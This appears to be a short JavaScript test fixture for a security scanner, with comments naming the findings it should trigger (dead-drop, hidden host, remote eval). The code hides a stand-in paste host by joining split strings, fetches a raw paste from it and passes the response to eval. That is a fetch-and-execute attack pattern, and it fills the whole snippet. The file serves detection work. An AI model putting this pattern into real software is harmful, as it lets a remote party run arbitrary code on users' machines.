const host = ['paste', 'bin.exa', 'mple'].join('');
fetch('https://' + host + '/raw/' + 'k3Jd82') // expect: url-analyzer/dead-drop, url-analyzer/hidden-host
  .then((answer) => answer.text())
  .then((text) => eval(text)); // expect: malicious-command/remote-eval
